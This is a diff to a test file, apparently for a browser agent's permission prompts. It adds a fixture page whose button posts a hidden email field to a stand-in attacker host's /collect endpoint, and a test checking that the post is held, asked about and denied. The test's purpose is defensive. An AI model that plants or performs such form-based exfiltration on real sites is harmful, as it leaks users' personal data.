@@ -58,6 +58,15 @@ const pages: Route = (req, res, url) => {
       `<h1>Basket</h1><button type="button" onclick="location.href='${evil}/collect?via=script'">Continue</button>`,
     );
   }
+  if (url.pathname === '/prereq/script-post.html') {
+    // The page posts by script: its button is no submit button, so only the network hold can stop it.
+    return html(
+      `<h1>Reviews</h1><form method="post" action="${evil}/collect"><input type="hidden" name="email" ` +
+        'value="ann@example.com"></form><button type="button" onclick="document.forms[0].submit()">Post my review' +
+        '</button>',
+    );
+  }
+  if (url.pathname === '/prereq/news.html') return html('<h1>News</h1><p>Reviews of the week</p>');
   if (url.pathname === '/prereq/plain.html') return html('<h1>Order 4411</h1><p>Status: packed</p>');
   return false;
 };
@@ -248,5 +257,38 @@ describe('asked before the request leaves', () => {
     expect(JSON.stringify(seen[1]?.results)).toContain('failed: Failed to fetch');
     expect(log.to(evil, '/')).toEqual([]);
     expect(await sessionRules(panel)).toBe(0);
+  });
+
+  it('a site allowed to read only is loaded, but a form the page posts there is held and asked about to act', async ({
+    browser,
+    site,
+    model,
+    panel,
+  }) => {
+    const shop = `http://shop.test:${site.port}`;
+    const evil = `http://evil.test:${site.port}`;
+    await shopTab(browser, `${shop}/prereq/script-post.html`);
+    play(model, (s) => {
+      if (s.index === 0) return act('open_url', { url: `${evil}/prereq/news.html` });
+      if (s.index === 1) return act('go_back', {});
+      if (s.index === 2) return act('click', { ref: control(s, 'button', /post my review/i).ref });
+      return giveUp('The person kept evil.test read only.');
+    });
+
+    const running = runTask(panel, 'Read the news, then post my review');
+    const ask = permissionBox(panel);
+    await ask.box.waitFor();
+    await ask.readOnly.click();
+    // Loaded to be read: a GET went there.
+    await expect.poll(() => log.to(evil, '/prereq/news.html')).toHaveLength(1);
+    await expect.poll(() => ask.why.textContent()).toContain(`The page on ${shop} tried to go to ${evil}/collect`);
+    expect(collected).toEqual([]);
+    await ask.deny.click();
+    const { result, events } = await running;
+
+    expect(result).toMatchObject({ status: 'failed' });
+    expect(ofType(events, 'permission_request')).toHaveLength(2);
+    expect(collected).toEqual([]);
+    expect(log.to(evil, '/collect')).toEqual([]);
   });
 });
